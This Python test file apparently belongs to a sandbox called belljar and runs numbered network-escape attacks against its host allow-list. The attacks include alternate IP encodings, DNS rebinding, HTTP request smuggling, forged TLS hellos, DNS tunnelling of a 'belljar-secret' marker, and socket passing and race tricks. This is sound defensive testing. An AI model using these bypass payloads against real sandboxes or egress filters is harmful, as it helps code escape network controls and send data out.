"""Ways around rules about hosts, lines 29 to 36 of the list of attacks.

The control has no sandbox and a cable to the whole internet of names.py, so each attack
succeeds there. In a jar the rules allow something, never what is attacked: what the
servers of the world saw is the verdict.
"""

from __future__ import annotations

import json
import os
import pathlib
import re
import signal
import socket
import ssl
import struct
import threading
import time

import jar as jars
import names
import pytest
from arena import attack, findings
from names import ALPHA, BETA, HERE, METADATA, PRIVATE, SHARED
from services import BANNER, COUNT, ECHO, HTTP, HTTPS, HTTPS_OLD
from wired import allow, decisions

GUESTS = pathlib.Path(__file__).parent / "guests"
LONG = os.environ.get("BELLJAR_LONG") == "1"
# The broker is the same in each profile; what differs is how a jar's namespace and /etc are made.
PROFILES = ("developer", "public-bot")
ONE = ("developer",)


def guest(attacker, name: str, *arguments, **how):
    """Runs one of guests/."""
    attacker.scene.file(name, (GUESTS / name).read_bytes())
    return attacker.command(["/usr/bin/python3", "-I", name, *map(str, arguments)], says_done=True, **how)


def slug(text: str) -> str:
    return re.sub(r"\W+", "_", text).strip("_")


# ---------------------------------------------------- 29: the host's own services


@attack(29, "network", profiles=PROFILES)
@pytest.mark.parametrize("address", ["127.0.0.1", "::1", "127.0.0.53", *HERE, "::ffff:127.0.0.1", "0.0.0.0"])
def test_reaches_a_service_of_the_host(attacker, address):
    where = {"::ffff:127.0.0.1": "127.0.0.1", "0.0.0.0": "127.0.0.1"}.get(address, address)
    listener = attacker.wired.listener(where)
    run = attacker.run("30_reach", listener.port, address, policy=allow("alpha.example"))
    assert findings(run)
    attacker.verdict(called=listener.called())


@attack(29, "network", profiles=ONE)
def test_reaches_another_port_of_localhost(attacker):
    """`localhost:PORT` is that port and no other."""
    allowed, other = attacker.wired.listener("127.0.0.1"), attacker.wired.listener("127.0.0.1")
    run = attacker.run("30_reach", allowed.port, "localhost", policy=allow(f"localhost:{allowed.port}"))
    assert allowed.called(), f"the rule itself does not work:\n{run}"
    policy = allow(f"localhost:{allowed.port}")
    attacker.run("30_reach", other.port, "localhost", "127.0.0.1", "127.0.0.2", policy=policy)
    attacker.verdict(called=other.called())


@attack(29, "network", profiles=ONE)
def test_reaches_another_address_with_an_allowed_port(attacker):
    """`localhost:PORT` is the loopback, and not what else the host has."""
    mine = attacker.wired.listener(HERE[0], ECHO)
    attacker.run("30_reach", ECHO, HERE[0], BETA[0], METADATA, policy=allow(f"localhost:{ECHO}"))
    attacker.verdict(host=mine.called(), beta=bool(attacker.seen(BETA[0])), metadata=bool(attacker.seen(METADATA)))


# -------------------------------------------------------------- 30: forms of a name

LIKE_WILD = [
    "wild.example", "WILD.example", "wild.example.", "evilwild.example", "wild.example.evil.example",
    "a.wild.example.evil.example",
]  # fmt: skip
LIKE_ALPHA = [
    BETA[0], "beta.example", "BETA.EXAMPLE.", "3405803796", "0xcb007114", "0313.0.0161.024", "203.0.28948",
    BETA[1], f"::ffff:{BETA[0]}", "::ffff:cb00:7114",
]  # fmt: skip


@attack(30, "network", profiles=PROFILES)
@pytest.mark.parametrize(
    ("rule", "targets"), [(f"*.wild.example:{ECHO}", LIKE_WILD), (f"alpha.example:{ECHO}", LIKE_ALPHA)],
    ids=["wildcard", "name"],
)  # fmt: skip
def test_reaches_a_name_that_looks_allowed(attacker, rule, targets):
    run = attacker.run("30_reach", ECHO, *targets, policy=allow(rule))
    attacker.verdict(findings(run), beta=bool(attacker.seen(*BETA)))


@attack(30, "network", profiles=ONE)
def test_reaches_what_a_name_with_a_strange_byte_hides(attacker):
    """A reader that stops at NUL takes the first for beta, a suffix check for a.wild.example."""
    labels = {
        "nul_before_suffix": [b"beta", b"example\0", b"wild", b"example"],
        "nul_in_label": [b"beta", b"example\0a", b"wild", b"example"],
    }
    server = names.SERVER if attacker.is_control else ""
    queries = [names.question(name, names.A).hex() for name in labels.values()]
    run = guest(attacker, "ask.py", server, "udp", *queries, policy=allow("*.wild.example"))
    answers = dict(zip(labels, run.stdout.splitlines()))
    told = {what: has_address(line, BETA[0]) for what, line in answers.items()}
    assert len(told) == len(labels), run
    attacker.verdict(**told)


def has_address(line: str, address: str) -> bool:
    if line.startswith("none"):
        return False
    _, records = names.read_reply(bytes.fromhex(line))
    return any(data == socket.inet_aton(address) for _, data in records)


@pytest.mark.parametrize("rule", [
    "", ":80", "user@alpha.example", "http://alpha.example", "alpha.example/", "alpha..example", ".alpha.example",
    "-alpha.example", "al pha.example", "alpha.example\n", "*", "*.", "a.*.example", "*alpha.example", "3405803796",
    "0xcb007114", "127.1", "010.0.0.1", "203.0.113", "alpha.example:", "alpha.example:0", "alpha.example:65536",
    "alpha.example:90-80", "alpha.example:http", "203.0.113.0/33", "203.0.113.1/24", "2001:db8::/129", "localhost",
    "a" * 64 + ".example", "@nobody",
])  # fmt: skip
def test_a_rule_that_could_mean_two_things_is_refused(wired, rule):
    run = wired.run(["/bin/true"], rule)
    assert run.exit == jars.OWN_FAILURE
    assert "net" in run.stderr  # it says what it is about


@pytest.mark.parametrize("rule", ["ALPHA.Example", "alpha.example.", "Alpha.Example.:80"])
def test_a_rule_may_be_written_as_people_write(wired, rule):
    assert "hello from" in wired.ok(["/usr/bin/curl", "-sS", "http://alpha.example/"], rule)


@pytest.mark.parametrize("asked", ["ALPHA.example", "alpha.example."])
def test_a_client_may_write_a_name_as_people_write(wired, asked):
    assert "hello from" in wired.ok(["/usr/bin/curl", "-sS", f"http://{asked}/"], "alpha.example")


def test_a_name_in_another_script_is_its_ascii_form(wired):
    assert "hello from" in wired.ok(["/usr/bin/curl", "-sS", "http://xn--bcher-kva.example/"], "bücher.example")


# ---------------------------------------------- 31: allowed names that lead elsewhere


@attack(31, "network", profiles=ONE)
@pytest.mark.parametrize("name", [
    "loop.example", "any.example", "private.example", "link-local.example", "metadata.example", "mapped.example",
    "mine.example", "mixed.example", "alias-private.example",
])  # fmt: skip
def test_reaches_what_an_allowed_name_should_not_lead_to(attacker, name):
    """By the name, and then by the address, in case asking has opened it."""
    addresses = names.ADDRESSES[names.ALIASES.get(name, name)]
    local = {"loop.example": "127.0.0.1", "any.example": "127.0.0.1", "mine.example": HERE[0]}.get(name)
    listener = attacker.wired.listener(local, ECHO) if local else None
    hidden = [address.removeprefix("::ffff:") for address in addresses if address not in ALPHA]
    run = attacker.run("30_reach", ECHO, name, *hidden, policy=allow(f"{name}:{ECHO}"))
    assert findings(run)
    reached = listener.called() if listener else bool(attacker.seen(*hidden))
    attacker.verdict(reached=reached)


def test_a_name_with_a_good_and_a_bad_address_leads_to_the_good_one(wired):
    mark = wired.services.mark()
    assert "hello from" in wired.ok(["/usr/bin/curl", "-sS", "http://mixed.example/"], "mixed.example")
    assert wired.services.since(mark, ALPHA[0]) and not wired.services.since(mark, PRIVATE)


@pytest.mark.parametrize("range", [PRIVATE, "10.20.0.0/16"])
def test_a_rule_for_the_address_lets_a_name_lead_there(wired, range):
    command = ["/usr/bin/curl", "-sS", "-4", "http://private.example/"]
    assert PRIVATE in wired.ok(command, "private.example", range)
    refused = wired.run(command, "private.example")
    assert refused.exit not in (0, jars.OWN_FAILURE)
    assert any("private" in event["why"] for event in decisions(refused, "private.example", allowed=False))


REBIND = """
import socket, sys
name, port, private = sys.argv[1], int(sys.argv[2]), sys.argv[3]
for turn in range(4):
    try:
        found = {each[4][0] for each in socket.getaddrinfo(name, port, socket.AF_INET, socket.SOCK_STREAM)}
    except OSError as problem:
        found = set()
        print("no answer", problem)
    for address in {*found, private}:
        try:
            with socket.create_connection((address, port), timeout=2) as line:
                line.sendall(f"GET / HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n".encode())
                print(turn, address, line.recv(100))
        except OSError as problem:
            print(turn, address, problem)
print("done")
"""


@attack(31, "network", profiles=PROFILES)
def test_reaches_a_private_address_by_a_name_that_changes(attacker):
    name = f"r{time.monotonic_ns()}.rebind.example"
    run = attacker.python(REBIND, name, HTTP, PRIVATE, policy=allow(name))
    assert attacker.seen(ALPHA[0]), f"the name itself does not work:\n{run}"
    attacker.verdict(private=bool(attacker.seen(PRIVATE)))


# ----------------------------------------------------- 32: names inside a connection


def get(host: str, more: str = "") -> str:
    return f"GET / HTTP/1.1\r\nHost: {host}\r\n{more}\r\n"


GOOD, BAD = "shared-a.example", "shared-b.example"
HIDDEN = get(BAD)
REQUESTS = {
    "other_host": [get(BAD)],
    "other_host_other_case": [get(BAD).replace("Host:", "hOsT:\t")],
    "second_request": [get(GOOD), get(BAD)],
    "third_request": [get(GOOD), get(GOOD), get(BAD)],
    "pipelined": [get(GOOD) + get(BAD)],
    "after_a_body": [f"POST /echo HTTP/1.1\r\nHost: {GOOD}\r\nContent-Length: 5\r\n\r\nhello" + get(BAD)],
    "after_chunks": [
        f"POST /echo HTTP/1.1\r\nHost: {GOOD}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n" + get(BAD)
    ],
    "inside_a_body_of_get": [f"GET /deaf HTTP/1.1\r\nHost: {GOOD}\r\nContent-Length: {len(HIDDEN)}\r\n\r\n{HIDDEN}"],
    "inside_a_body_of_post": [f"POST /deaf HTTP/1.1\r\nHost: {GOOD}\r\nContent-Length: {len(HIDDEN)}\r\n\r\n{HIDDEN}"],
    "inside_a_body_of_delete": [
        f"DELETE /deaf HTTP/1.1\r\nHost: {GOOD}\r\nContent-Length: {len(HIDDEN)}\r\n\r\n{HIDDEN}"
    ],
    "after_an_upgrade_that_is_none": [
        get(GOOD, "Connection: Upgrade\r\nUpgrade: websocket\r\n").replace(" / ", " /status/101 "), get(BAD)
    ],
    "two_hosts": [f"GET / HTTP/1.1\r\nHost: {GOOD}\r\nHost: {BAD}\r\n\r\n"],
    "two_hosts_other_order": [f"GET / HTTP/1.1\r\nHost: {BAD}\r\nHost: {GOOD}\r\n\r\n"],
    "absolute": [f"GET http://{BAD}/ HTTP/1.1\r\nHost: {GOOD}\r\n\r\n"],
    "bare_newlines": [f"GET / HTTP/1.1\nHost: {BAD}\n\n"],
    "user_part": [get(f"{GOOD}@{BAD}")],
    # A reader of chunks sees one request with a body, a reader of lengths sees two.
    "smuggled": [
        f"POST /echo HTTP/1.1\r\nHost: {GOOD}\r\nContent-Length: {len(f'{len(HIDDEN):x}') + 2}\r\n"
        f"Transfer-Encoding: chunked\r\n\r\n{len(HIDDEN):x}\r\n{HIDDEN}\r\n0\r\n\r\n"
    ],
}


def spoken(attacker, port: int, send: list[str], **more):
    told = {"name": GOOD, "address": SHARED[0], "port": port, "send": send, **more}
    guest(attacker, "talk.py", json.dumps(told), policy=allow(GOOD))
    time.sleep(0.05)  # until the last bytes have arrived, should there be any
    return attacker.seen(*SHARED)


@attack(32, "network", profiles=ONE)
@pytest.mark.parametrize("form", REQUESTS)
def test_asks_for_another_host_over_http(attacker, form):
    calls = spoken(attacker, HTTP, REQUESTS[form])
    asked = [(line, host) for call in calls for line, hosts in call.requests for host in [line, *hosts] if BAD in host]
    attacker.verdict(asked=bool(asked))


@pytest.mark.parametrize("method", ["GET", "DELETE", "POST"])
@pytest.mark.parametrize("body", ['{"query": "GET / HTTP/1.1"}', "hello world", "-- GET / HTTP/1.1"])
def test_a_request_with_a_body_passes(wired, method, body):
    """Elasticsearch's clients, among others, send a body with GET."""
    command = ["/usr/bin/curl", "-sS", "-X", method, "--data-binary", body, "http://alpha.example/echo"]
    assert wired.ok([*command, "--next", *command[1:]], "alpha.example") == body * 2


@attack(32, "network", profiles=ONE)
@pytest.mark.parametrize("form", {
    "no_host": "GET / HTTP/1.0\r\n\r\n",
    "http2_without_tls": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0",
    "not_http": "belljar-secret no request at all\n",
}.items(), ids=lambda form: form[0])  # fmt: skip
def test_sends_what_names_no_host_over_http(attacker, form):
    calls = spoken(attacker, HTTP, [form[1]])
    attacker.verdict(arrived=any(call.data for call in calls))


@attack(32, "network", profiles=ONE)
@pytest.mark.parametrize("sni", [BAD, None, f"{GOOD}.{BAD}", "doh.example"], ids=lambda name: slug(name or "none"))
def test_asks_for_another_host_over_tls(attacker, sni):
    calls = spoken(attacker, HTTPS, [get(GOOD)], sni=sni)
    attacker.verdict(arrived=any(call.data for call in calls))


@attack(32, "network", profiles=ONE)
@pytest.mark.parametrize("form", ["encrypted_hello", "in_pieces", "two_names", "not_tls", "plain_http"])
def test_hides_the_host_in_a_hello(attacker, form):
    send = {
        "encrypted_hello": lambda: [extended(hello(GOOD), 0xFE0D, b"\0\0\1\0\1\1" + bytes(70))],
        "in_pieces": lambda: [in_records(hello(BAD), 20)],
        "two_names": lambda: [two_names(hello(GOOD), BAD)],
        "not_tls": lambda: [b"belljar-secret no hello at all\n"],
        "plain_http": lambda: [get(GOOD).encode()],
    }[form]()
    calls = spoken(attacker, HTTPS, [text.decode("latin-1") for text in send])
    attacker.verdict(arrived=any(call.data for call in calls))


SERVER_NAME, EARLY_DATA, KEY_SHARE = 0, 42, 51
CHANGE_CIPHER = b"\x14\3\3\0\1\1"
EARLY = b"\x17\3\3\0\x40" + bytes(64)


def with_extensions(record: bytes, **changes) -> bytes:
    """A hello with a server name, or without keys, so that the server asks for another one."""
    before, extensions = hello_parts(record)
    changed = dict(extensions)
    if "name" in changes:
        entry = b"\0" + len(changes["name"]).to_bytes(2, "big") + changes["name"].encode()
        changed[SERVER_NAME] = len(entry).to_bytes(2, "big") + entry
    if changes.get("no_keys"):
        changed[KEY_SHARE] = b"\0\0"
    if changes.get("early_data"):
        changed[EARLY_DATA] = b""
    return hello_record(before, list(changed.items()))


SECOND_HELLOS = {
    "plain": lambda first, second: [first, second],
    "after_a_change": lambda first, second: [first, CHANGE_CIPHER + second],
    "in_pieces": lambda first, second: [in_records(first, 30), in_records(second, 30)],
    "not_asked_for": lambda first, second: [first + second],
    "after_early_data": lambda first, second: [with_extensions(first, early_data=True) + EARLY, second],
}


@attack(32, "network", profiles=PROFILES)
@pytest.mark.parametrize("form", SECOND_HELLOS)
def test_asks_for_another_host_in_a_second_hello(attacker, form):
    """A server that misses a key asks for another hello, and serves the site that this one names."""
    whole = hello(GOOD)
    send = SECOND_HELLOS[form](with_extensions(whole, no_keys=True), with_extensions(whole, name=BAD))
    calls = spoken(attacker, HTTPS, [text.decode("latin-1") for text in send])
    attacker.verdict(asked=any(BAD in call.server_names for call in calls))


@pytest.mark.parametrize("form", sorted(SECOND_HELLOS.keys() - {"not_asked_for"}))
def test_a_second_hello_for_the_same_host_passes(wired, form):
    whole = hello(GOOD)
    send = SECOND_HELLOS[form](with_extensions(whole, no_keys=True), whole)
    wired.scene.file("talk.py", (GUESTS / "talk.py").read_bytes())
    told = {"name": GOOD, "address": SHARED[0], "port": HTTPS, "send": [text.decode("latin-1") for text in send]}
    mark = wired.services.mark()
    wired.ok(["/usr/bin/python3", "-I", "talk.py", json.dumps(told)], GOOD)
    assert [call.server_names for call in wired.services.since(mark, *SHARED)] == [[GOOD, GOOD]]


STARTS_OVER = """
import os, selectors, socket, subprocess, sys, time
name, address, port = sys.argv[1:]
print(socket.getaddrinfo(name, port))
client = subprocess.Popen(
    ["openssl", "s_client", "-tls1_2", "-servername", name, "-connect", f"{address}:{port}"],
    stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
said = b""
def wait_for(what):
    global said
    waiting = selectors.DefaultSelector()
    waiting.register(client.stdout, selectors.EVENT_READ)
    end = time.monotonic() + 3
    while what not in said and waiting.select(end - time.monotonic()):
        part = os.read(client.stdout.fileno(), 65536)
        said += part
        if not part:
            break
wait_for(b"Verify return code")
client.stdin.write(b"R\\n")
client.stdin.flush()
wait_for(b"RENEGOTIATING")
try:
    client.stdin.write(f"GET / HTTP/1.1\\r\\nHost: {name}\\r\\nConnection: close\\r\\n\\r\\n".encode())
    client.stdin.flush()
except OSError:
    pass
wait_for(b"hello from")
client.kill()
print(said[-500:])
print("done")
"""


@attack(32, "network", profiles=ONE)
def test_starts_over_inside_tls(attacker, need):
    """A second handshake of TLS 1.2 is encrypted, and may name any site."""
    need("openssl")
    attacker.python(STARTS_OVER, GOOD, SHARED[0], HTTPS_OLD, policy=allow(f"{GOOD}:{HTTPS_OLD}"))
    calls = attacker.seen(*SHARED)
    assert any(call.server_names for call in calls), "the first handshake does not work"
    attacker.verdict(again=any(len(call.server_names) > 1 for call in calls))


def test_tls_with_the_allowed_name_passes(wired):
    """The control of the controls: whole, and a hello in pieces."""
    for send, sni in (([get(GOOD)], {"sni": GOOD}), ([in_records(hello(GOOD), 20).decode("latin-1")], {})):
        wired.scene.file("talk.py", (GUESTS / "talk.py").read_bytes())
        told = {"name": GOOD, "address": SHARED[0], "port": HTTPS, "send": send, **sni}
        mark = wired.services.mark()
        wired.ok(["/usr/bin/python3", "-I", "talk.py", json.dumps(told)], GOOD)
        assert [call.server_names for call in wired.services.since(mark, *SHARED)] == [[GOOD]]


def hello(name: str) -> bytes:
    """The first record that Python's TLS would send."""
    context = ssl.create_default_context()
    out = ssl.MemoryBIO()
    made = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
    with pytest.raises(ssl.SSLWantReadError):
        made.do_handshake()
    return out.read()


def hello_parts(record: bytes) -> tuple[bytes, list[tuple[int, bytes]]]:
    """What stands before the extensions, and these."""
    body = record[9:]
    at = 34
    at += 1 + body[at]
    at += 2 + int.from_bytes(body[at : at + 2], "big")
    at += 1 + body[at]
    rest, found = body[at + 2 :], []
    while rest:
        kind, length = struct.unpack(">2H", rest[:4])
        found.append((kind, rest[4 : 4 + length]))
        rest = rest[4 + length :]
    return body[:at], found


def hello_record(before: bytes, extensions: list[tuple[int, bytes]]) -> bytes:
    packed = b"".join(struct.pack(">2H", kind, len(data)) + data for kind, data in extensions)
    body = before + len(packed).to_bytes(2, "big") + packed
    message = b"\1" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + len(message).to_bytes(2, "big") + message


def extended(record: bytes, kind: int, data: bytes) -> bytes:
    before, extensions = hello_parts(record)
    return hello_record(before, [(kind, data), *extensions])


def two_names(record: bytes, other: str) -> bytes:
    """A list of names, which has never been used for more than one."""
    before, extensions = hello_parts(record)
    entry = b"\0" + len(other).to_bytes(2, "big") + other.encode()
    changed = []
    for kind, data in extensions:
        if kind == 0:
            names_in = data[2:] + entry
            data = len(names_in).to_bytes(2, "big") + names_in
        changed.append((kind, data))
    return hello_record(before, changed)


def in_records(record: bytes, size: int) -> bytes:
    """The same message in small records."""
    message = record[5:]
    parts = [message[at : at + size] for at in range(0, len(message), size)]
    return b"".join(b"\x16\x03\x01" + len(part).to_bytes(2, "big") + part for part in parts)


# --------------------------------------------------------------- 33: DNS as a tunnel


@attack(33, "network", profiles=PROFILES)
@pytest.mark.parametrize("transport", ["udp", "tcp"])
def test_carries_data_out_in_a_question(attacker, transport):
    """A name that is not allowed is not asked for outside."""
    mark = f"x{time.monotonic_ns()}"
    names_out = {
        "label": f"{mark}.tunnel.example",
        "long_labels": ".".join([mark, "a" * 60, "b" * 60, "c" * 60, "tunnel.example"]),
        "below_an_allowed_name": f"{mark}.alpha.example",
    }
    server = names.SERVER if attacker.is_control else ""
    queries = [names.question(name, names.A).hex() for name in names_out.values()]
    guest(attacker, "ask.py", server, transport, *queries, policy=allow("alpha.example"))
    asked = {name for name, _, _ in attacker.asked()}
    attacker.verdict(**{what: name in asked for what, name in names_out.items()})


@attack(33, "network", profiles=ONE)
@pytest.mark.parametrize("transport", ["udp", "tcp"])
def test_gets_data_in_by_other_records(attacker, transport):
    """Of an allowed name too, only addresses are told, and only those are asked for."""
    kinds = {"txt": names.TXT, "any": names.ANY, "null": names.NULL, "mx": names.MX, "srv": names.SRV}
    server = names.SERVER if attacker.is_control else ""
    queries = [names.question("alpha.example", kind).hex() for kind in kinds.values()]
    before = len(attacker.asked())
    run = guest(attacker, "ask.py", server, transport, *queries, policy=allow("alpha.example"))
    asked = {kind for _, kind, _ in attacker.asked()[before:]}
    attacker.verdict(
        told=names.SECRET_TEXT.encode().hex() in run.stdout,
        **{f"asked_{what}": kind in asked for what, kind in kinds.items()},
    )


@attack(33, "network", profiles=ONE)
def test_carries_data_out_beside_a_question(attacker):
    """Options, and the number of a query, are the broker's own outside."""
    secret = b"belljar-secret-option"
    server = names.SERVER if attacker.is_control else ""
    query = names.question("alpha.example", names.A, options=secret)
    before = len(attacker.network.name_server.packets)
    guest(attacker, "ask.py", server, "udp", query.hex(), policy=allow("alpha.example"))
    attacker.verdict(carried=any(secret in packet for packet in attacker.network.name_server.packets[before:]))


@attack(33, "network", profiles=ONE)
@pytest.mark.parametrize("transport", ["udp", "tcp"])
@pytest.mark.parametrize("server", [names.SERVER, "127.0.0.53"])
def test_asks_another_resolver(attacker, transport, server):
    listener = None
    if server != names.SERVER:  # as a resolver of the host's
        kind = socket.SOCK_STREAM if transport == "tcp" else socket.SOCK_DGRAM
        listener = attacker.wired.listener(server, 53, kind)
    mark = f"y{time.monotonic_ns()}.tunnel.example"
    query = names.question(mark, names.A).hex()
    guest(attacker, "ask.py", server, transport, query, policy=allow("alpha.example"))
    asked = listener.called() if listener else any(name == mark for name, _, _ in attacker.asked())
    attacker.verdict(asked=asked)


OVER_HTTPS = """
import socket, ssl, sys
context = ssl.create_default_context(cafile=sys.argv[2])
context.check_hostname = False
with socket.create_connection((sys.argv[1], 443), timeout=5) as plain:
    with context.wrap_socket(plain, server_hostname=sys.argv[3]) as line:
        line.sendall(b"GET /resolve HTTP/1.1\\r\\nHost: doh.example\\r\\nConnection: close\\r\\n\\r\\n")
        answer = b""
        while part := line.recv(4096):
            answer += part
address = answer.split(b"\\r\\n\\r\\n")[1].decode()
print("told", address)
try:
    with socket.create_connection((address, 7), timeout=3) as line:
        line.sendall(b"knock")
        print(line.recv(10))
except OSError as problem:
    print(problem)
print("done")
"""


@attack(33, "network", profiles=ONE)
def test_reaches_what_a_resolver_at_an_allowed_address_tells(attacker):
    """Whoever allows an address allows what it says, but not where that leads."""
    run = attacker.python(OVER_HTTPS, ALPHA[0], "ca.pem", "alpha.example", policy=allow(f"{ALPHA[0]}:443"))
    assert f"told {BETA[0]}" in run.stdout, run
    attacker.verdict(beta=bool(attacker.seen(*BETA)))


# -------------------------------------------------------------- 34: sockets misused


@attack(34, "network", profiles=ONE)
@pytest.mark.parametrize("rule", [ALPHA[0], f"{ALPHA[0]}:{ECHO}", "alpha.example"], ids=["address", "port", "name"])
def test_sends_datagrams_elsewhere(attacker, rule):
    attacker.run("34_datagrams", ALPHA[0], BETA[0], ECHO, policy=allow(rule))
    time.sleep(0.2)
    arrived = {call.data.decode() for call in attacker.seen(BETA[0], service="udp")}
    ways = [
        "sendto", "sendmsg", "sendmmsg", "sendmmsg_last", "connect", "sendto_connected", "sendto_disconnected",
        "connect_again", "mapped", "bound", "pktinfo",
    ]  # fmt: skip
    attacker.verdict(**{way: way in arrived for way in ways})


@attack(34, "network", profiles=PROFILES)
def test_connects_a_socket_again(attacker):
    attacker.run("34_reuse", "again", ALPHA[0], BETA[0], ECHO, policy=allow(ALPHA[0]))
    assert attacker.seen(ALPHA[0]), "the rule itself does not work"
    attacker.verdict(beta=bool(attacker.seen(BETA[0])))


@attack(34, "network", profiles=ONE)
def test_listens_with_a_socket_that_was_connected(attacker):
    process = attacker.start("34_reuse", "listen", ALPHA[0], BETA[0], ECHO, policy=allow(ALPHA[0]))
    attacker.scene.on_exit(process.kill)
    line = process.stdout.readline().split()
    reached = False
    if line[:1] == [b"port"]:
        for address in (HERE[0], "127.0.0.1"):
            with attacker.network.here(), socket.socket() as caller:
                caller.settimeout(0.5)
                reached = reached or caller.connect_ex((address, int(line[1]))) == 0
    out, err = process.communicate(timeout=20)
    assert b"done" in out, (line, out, err)
    attacker.verdict(reached=reached, called=b"ESCAPED" in out)


@attack(34, "network", profiles=PROFILES)
@pytest.mark.parametrize("kind", ["stdin", "datagram"])
def test_uses_a_socket_of_the_host_that_it_was_given(attacker, kind):
    """Standard input is a socket of the host's network: belljar may refuse it, not pass it on."""
    with attacker.network.here():
        given = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if kind == "datagram" else socket.SOCK_STREAM)
    with given:
        attacker.run(
            "34_reuse", kind, ALPHA[0], BETA[0], ECHO, policy=allow(ALPHA[0]), stdin=given, may_refuse=True
        )  # fmt: skip
    time.sleep(0.1)
    attacker.verdict(beta=bool(attacker.seen(BETA[0])))


PASSED = """
import array, socket, sys
line = socket.socket(socket.AF_UNIX)
try:
    line.connect(sys.argv[1])
    _, control, _, _ = line.recvmsg(10, socket.CMSG_SPACE(4))
    got = socket.socket(fileno=array.array("i", control[0][2])[0])
    got.connect((sys.argv[2], int(sys.argv[3])))
    got.sendall(b"knock")
    print(got.recv(10))
except (OSError, IndexError) as problem:
    print(problem)
print("done")
"""


@attack(34, "network", profiles=ONE)
def test_uses_a_socket_that_somebody_outside_passes_in(attacker):
    """A doorman outside, reached through a file in the workdir, hands out a socket of the host's."""
    path = attacker.scene.workdir / "doorman"
    with attacker.network.here():
        given = socket.socket()
    doorman = socket.socket(socket.AF_UNIX)
    doorman.bind(os.fspath(path))
    os.chmod(path, 0o777)
    doorman.listen(1)
    doorman.settimeout(20)

    def serve():
        try:
            caller, _ = doorman.accept()
            socket.send_fds(caller, [b"here"], [given.fileno()])
            caller.close()
        except OSError:
            pass

    server = threading.Thread(target=serve, daemon=True)
    server.start()
    attacker.python(PASSED, "doorman", BETA[0], ECHO, policy=allow(ALPHA[0]))
    doorman.close()
    given.close()
    attacker.verdict(beta=bool(attacker.seen(BETA[0])))


# ------------------------------------------ 34, 35: changes while a decision is made


@attack(35, "network", profiles=ONE)
@pytest.mark.parametrize("what", ["pointer", "both", "datagram"])
def test_changes_the_call_while_it_is_decided(attacker, what):
    """A thread rewrites the address, and another swaps the socket, during each of many calls."""
    tries = 20_000
    if attacker.is_control and what != "datagram":
        tries = 2_000
    elif LONG and what == "pointer":
        tries = 1_000_000
    counts = attacker.services.datagrams if what == "datagram" else attacker.services.counts
    before = counts.copy()
    run = attacker.run(
        "35_race", what, tries, ALPHA[0], BETA[0], COUNT,
        policy=allow(f"{ALPHA[0]}:{COUNT}"), timeout=max(100, tries / 500),
    )  # fmt: skip
    time.sleep(0.3)
    allowed, forbidden = (counts[host] - before[host] for host in (ALPHA[0], BETA[0]))
    print(f"{tries} tries in {run.seconds:.1f} s: {allowed} arrived where allowed, {forbidden} elsewhere")
    assert allowed > 0, f"nothing arrived anywhere:\n{run}"
    attacker.verdict(forbidden=forbidden > 0)


@attack(34, "network", profiles=ONE, control="")
def test_swaps_the_socket_while_it_is_decided(attacker):
    """Without the pointer there is nothing to reach outside either; what counts is that belljar
    answers every call, and that nothing but the allowed host is reached."""
    before = attacker.services.counts.copy()
    attacker.run("35_race", "dup2", 5_000, ALPHA[0], BETA[0], COUNT, policy=allow(f"{ALPHA[0]}:{COUNT}"))
    assert attacker.services.counts[ALPHA[0]] > before[ALPHA[0]]
    attacker.verdict(forbidden=attacker.services.counts[BETA[0]] > before[BETA[0]])


# ------------------------------------------------------------------- 36: a crowd


@attack(36, "network", profiles=ONE)
def test_a_thousand_threads_reach_only_what_is_allowed(attacker):
    policy = [*allow(ALPHA[0]), "--max-procs=1100"]
    run = attacker.run("36_crowd", 1000, ALPHA[0], BETA[0], ECHO, policy=policy)
    found = dict(re.findall(r"^(\w+): answered (\d+)", run.stdout, re.M))
    assert int(found["allowed"]) == 500, f"not everybody was served:\n{run}"
    attacker.verdict(forbidden=int(found["forbidden"]) > 0)


def test_a_crowd_in_one_jar_does_not_stop_another(wired):
    """Each has its own broker; one that is busy takes nothing from the other but time."""
    crowd = wired.jar().start(
        [wired.bring("36_crowd"), "1000", ALPHA[0], BETA[0], str(BANNER)],
        policy=[*allow(ALPHA[0]), "--max-procs=1100"],
    )  # fmt: skip
    wired.scene.on_exit(crowd.kill)
    run = wired.run(["/usr/bin/curl", "-sS", "http://alpha.example/"], "alpha.example")
    assert run.exit == 0 and run.seconds < 10
    crowd.communicate(timeout=60)


# ------------------------------------------------------------ belljar itself is hit

KNOCKS = """
import os, socket, sys
print("ready", flush=True)
while True:
    for address in sys.argv[1:3]:
        try:
            with socket.create_connection((address, 7), timeout=1) as line:
                line.sendall(b"knock")
                line.recv(10)
        except OSError:
            pass
"""


@attack(34, "network", profiles=ONE, control="")
@pytest.mark.parametrize("hit", [signal.SIGKILL, signal.SIGSTOP])
def test_reaches_more_when_belljar_is_hit(attacker, hit):
    """Whoever decides is gone or asleep: calls fail or wait, and nothing opens."""
    mark = f"mark-{time.monotonic_ns()}"
    command = attacker.wired.python(KNOCKS, ALPHA[0], BETA[0], mark)
    process = attacker.runner.start(command, policy=allow(ALPHA[0]))
    attacker.scene.on_exit(process.kill)
    assert process.stdout.readline() == b"ready\n", process.stderr.read()
    end = time.monotonic() + 5
    while not attacker.seen(ALPHA[0]) and time.monotonic() < end:
        time.sleep(0.02)
    assert attacker.seen(ALPHA[0]), "the rule itself does not work"
    process.send_signal(hit)
    time.sleep(0.5)
    calls = len(attacker.seen())
    time.sleep(0.5)
    attacker.verdict(beta=bool(attacker.seen(BETA[0])), more=len(attacker.seen()) > calls)
    process.kill()
    process.communicate(timeout=10)
    end = time.monotonic() + 5
    while jars.processes_with(mark) and time.monotonic() < end:
        time.sleep(0.05)
    assert not jars.processes_with(mark), "the guest is still there"
